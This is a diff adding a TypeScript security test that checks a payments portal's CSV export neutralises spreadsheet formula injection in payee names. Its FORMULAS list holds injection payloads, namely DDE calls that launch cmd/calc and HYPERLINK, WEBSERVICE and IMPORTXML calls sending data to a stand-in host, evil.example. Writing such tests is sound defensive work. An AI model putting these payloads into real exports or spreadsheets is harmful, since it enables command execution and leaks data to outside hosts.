@@ -1,0 +1,75 @@
+import Papa from "papaparse";
+import { DEMO_ACCOUNTS } from "@/lib/shared/demo-accounts";
+import { connectCaller } from "@/tests/attack/bank-caller";
+import { type Family, inParallel } from "@/tests/attack/campaign";
+import { until } from "@/tests/attack/until";
+
+/** Characters at which a spreadsheet begins a formula; the wide ones count in some languages. */
+const BEGINNINGS = [
+  "=",
+  "+",
+  "-",
+  "@",
+  "＝",
+  "＋",
+  "－",
+  "＠",
+  "|",
+  "%",
+  "\t=",
+  "\r=",
+  "\n=",
+  " =",
+  '"=',
+  "'=",
+  '",=',
+  ";=",
+  ",=",
+];
+const FORMULAS = [
+  ...["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"x")', "SUM(1+9)*cmd|' /C calc'!A0"],
+  ...['WEBSERVICE("http://evil.example")', 'IMPORTXML("http://evil.example","//a")', 'DDE("cmd";"/C calc";"x")'],
+];
+const IS_FORMULA = /^[\s\u00a0]*[=+\-@＝＋－＠\t\r\n]/;
+const NUMBER = /^-?\d+(\.\d+)?$/;
+
+/** A name that is a formula is text in the exported file. */
+export const formulas: Family = {
+  name: "formulas in exports",
+  rules: ["R-35"],
+  async run(campaign, judge) {
+    const { random, isShort, target, portal, people } = campaign;
+    const bank = await connectCaller(campaign, target.bank);
+    const marks = Array.from({ length: isShort ? 24 : 100 }, (_, index) => `fq${index}z`);
+    const accepted: string[] = [];
+    await inParallel(marks, 3, async (mark, index) => {
+      const beginning = BEGINNINGS[index % BEGINNINGS.length]!;
+      const payeeName = `${beginning}${random.pick(FORMULAS)} ${mark}`;
+      const body = {
+        ...{ accountNumber: DEMO_ACCOUNTS.operating.accountNumber, amount: 100, payeeName },
+        checkNumber: String(5_000_000 + index),
+      };
+      const response = await bank.call("POST", "/sandbox/v1/inbound-checks", body);
+      if (response.status === 200) accepted.push(mark);
+      else
+        judge.record(
+          payeeName,
+          `POST /sandbox/v1/inbound-checks ${JSON.stringify(body)}`,
+          response.status === 400 ? null : `${response.status}`,
+        );
+    });
+    const request = { path: "/api/payments/export", headers: { cookie: people.viewer.cookie! } };
+    const text = await until(
+      async () => (await portal(request)).text,
+      (csv) => accepted.every((mark) => csv.includes(mark)),
+    );
+    const { data } = Papa.parse<string[]>(text.replace(/^\uFEFF/, ""));
+    const cells = data.flat();
+    for (const mark of accepted) {
+      const found = cells.filter((cell) => cell.includes(mark));
+      const wrong = found.find((cell) => IS_FORMULA.test(cell) && !NUMBER.test(cell));
+      const gain = found.length === 0 ? "it is not in the file, so nothing was attacked" : (wrong ?? null);
+      judge.record(`a payee ${mark}`, "GET /api/payments/export", gain);
+    }
+  },
+};
